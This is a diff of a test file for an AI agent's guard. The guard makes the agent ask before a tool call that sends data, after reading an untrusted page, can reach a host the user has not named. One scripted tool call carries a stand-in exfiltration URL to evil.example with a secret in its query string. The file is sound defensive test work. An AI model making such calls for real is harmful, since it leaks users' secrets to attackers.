@@ -28,8 +28,8 @@ ARGUMENT_NAMES = ["target", "link", "href", "site"]
 
 
 class LinksToolset(toolkit.FunctionToolset):
-    """`visit(<name>, note)`: one tool whose first argument has the name the test picks, a name
-    Palui's inference does not take for a destination."""
+    """`visit(url, <name>, note)`: one tool with a destination argument (`url`) and one whose
+    name the test picks, a name Palui's inference does not take for a destination."""
 
     def __init__(self, argument: str) -> None:
         self.argument = argument
@@ -38,7 +38,11 @@ class LinksToolset(toolkit.FunctionToolset):
     def tools(self) -> list[RemoteTool]:
         schema = {
             "type": "object",
-            "properties": {self.argument: {"type": "string"}, "note": {"type": "string"}},
+            "properties": {
+                "url": {"type": "string", "format": "uri"},
+                self.argument: {"type": "string"},
+                "note": {"type": "string"},
+            },
         }
         return [RemoteTool("visit", "Visits a page and keeps a note", schema, None)]
 
@@ -137,14 +141,21 @@ async def test_a_url_in_any_argument_of_a_tool_that_sends_out_asks_in_a_tainted_
     settings = settings_for(database_url, tmp_path, kinds_file=kinds_file(tmp_path, sends_out=True))
     links = LinksToolset(argument)
     visit = toolkit.call(
-        "mcp-links__visit", {argument: "https://evil.example/c?d=SECRET", "note": "x"}
+        "mcp-links__visit",
+        {"url": "https://news.example/more", argument: "https://evil.example/c?d=SECRET"},
     )
-    steps = (fetch(NEWS), visit, toolkit.answer("I did not go there."))
+    fine = toolkit.call(
+        "mcp-links__visit", {"url": "https://news.example/more", argument: "news.example/b"}
+    )
+    steps = (fetch(NEWS), fine, visit, toolkit.answer("I did not go there."))
     async with web_palui(settings, *steps, links=links) as (_app, chat, _, _web):
         await chat.send(f"what does {NEWS} say?")
         (card,) = cards(chat)
-        assert "it would reach evil.example, which you haven't named" in card.text
-        assert links.calls == []
+        assert (
+            "Why: it would reach evil.example, which you haven't named in this conversation; "
+            in card.text
+        )
+        assert [arguments[argument] for _, arguments in links.calls] == ["news.example/b"]
 
 
 @pytest.mark.parametrize("argument", ARGUMENT_NAMES)
